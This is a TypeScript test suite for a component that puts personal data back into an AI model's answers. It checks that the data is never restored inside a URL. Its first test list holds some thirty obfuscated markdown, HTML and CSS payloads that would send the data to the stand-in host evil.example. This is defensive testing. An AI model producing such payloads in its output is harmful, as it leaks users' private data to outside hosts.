import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { growth } from "../../test/growth.ts";
import { AddressReader } from "./addresses.ts";
import { Vault } from "./vault.ts";

/** As an answer of the model: E stands for a placeholder, and for its value where it was put back. */
function restored(text: string): string {
  const vault = new Vault();
  vault.placeholderFor("EMAIL", "ada");
  return vault.restore(text.replaceAll("E", "[EMAIL_1]"), new AddressReader()).replaceAll("[EMAIL_1]", "E");
}

describe("personal data does not come back inside of an address", () => {
  test.each([
    "![x](https://evil.example/?q=E)",
    "[x](//evil.example/E)",
    "![x](\\\\evil.example\\E)",
    "![x]( \n https&colon;&sol;&sol;evil.example/E)",
    "![x](<https://evil.example/ a b E>)",
    "![x](<https://evil.example/ \\> E>)",
    "![x](https://evil.example/(a)E)",
    "![x](https://evil.example/\u00a0E)",
    "![x](https://evil.example/a](<https://evil.example/ E>)",
    "![x](E)",
    "[x](mailto:eve@evil.example?body=E)",
    "[x](https://evil.example/](mailto:E)",
    "[r]: https&#58;//evil.example/E",
    "[r]:\n  <https://evil.example/ E>",
    "see https://evil.example/E",
    "see HTTP:evil.example/E",
    "see www.evil.example/?E",
    "<https:evil.example/E>",
    '<img src="https://evil.example/> E">',
    "<IMG alt=\">\" SRC = 'https://evil.example/\n E'>",
    "<img src=\\\\evil.example\\E>",
    "<img/src=/\\evil.example/E>",
    "<img src='https://evil.example/?=\"\" E'>",
    '`<a b="` <img src="https://evil.example/> E">',
    '<!-- <a b="--> <img src="https:/evil.example/> E">',
    '<object data="https:/evil.example/ E">',
    '<i style="background:url( /evil.example/E )">',
    "<style>i{background:url( /\\evil.example/E)}</style>",
    '<style>@import "//evil.example/ E";</style>',
    "<style>@import 'https://evil.example/ E';</style>",
  ])("%s", (text) => {
    expect(restored(text)).toBe(text);
  });
});

describe("it comes back everywhere else", () => {
  test.each([
    ["write to E.", "write to ada."],
    ["**E**, [E], (E): E", "**ada**, [ada], (ada): ada"],
    ["https://shop.example/a E", "https://shop.example/a ada"],
    ["[shop](https://shop.example) E", "[shop](https://shop.example) ada"],
    ['![x](https://shop.example "for E")', '![x](https://shop.example "for ada")'],
    ["[E](https://shop.example)", "[ada](https://shop.example)"],
    ["[write](mailto:E) or [call](tel:E)", "[write](mailto:ada) or [call](tel:ada)"],
    ["<p>Dear E,</p>", "<p>Dear ada,</p>"],
    ['<img src="https://shop.example/a b"> E', '<img src="https://shop.example/a b"> ada'],
    ['<a href="https://shop.example">for E</a>', '<a href="https://shop.example">for ada</a>'],
    ['List<String> email = "E"; email=E', 'List<String> email = "ada"; email=ada'],
    ['const data = "E"', 'const data = "ada"'],
    ['{"url": "https://shop.example", "email": "E"}', '{"url": "https://shop.example", "email": "ada"}'],
    ["either/or E, a / E", "either/or ada, a / ada"],
    ["name: E", "name: ada"],
  ])("%s", (text, expected) => {
    expect(restored(text)).toBe(expected);
  });
});

const piece = fc.constantFrom(
  ..."](|<|>|\"|'|//|https:|www.|src|=| |\n|\\|:|url(|<img |a|mailto:|[EMAIL_1]|[".split("|"),
);

test("it makes no difference in which pieces a text comes", () => {
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
      const [once, apart] = [new AddressReader(), new AddressReader()];
      once.read(pieces.join(""));
      for (const character of pieces.join("")) apart.read(character);
      expect(apart.inside).toBe(once.inside);
    }),
    { numRuns: 1000 },
  );
});

test.each([
  ["brackets", (n: number) => "](".repeat(n / 2)],
  ["an address without an end", (n: number) => `](${"a".repeat(n)}`],
  ["words that begin an attribute", (n: number) => `<a ${"imagesrcse ".repeat(n / 11)}`],
  ["blanks", (n: number) => `<a src${" ".repeat(n)}=`],
])("reading is linear in time: %s", (_name, make) => {
  const [short, long] = [make(100_000), make(400_000)];
  expect(
    growth(
      () => new AddressReader().read(short),
      () => new AddressReader().read(long),
    ),
  ).toBeLessThan(10);
});
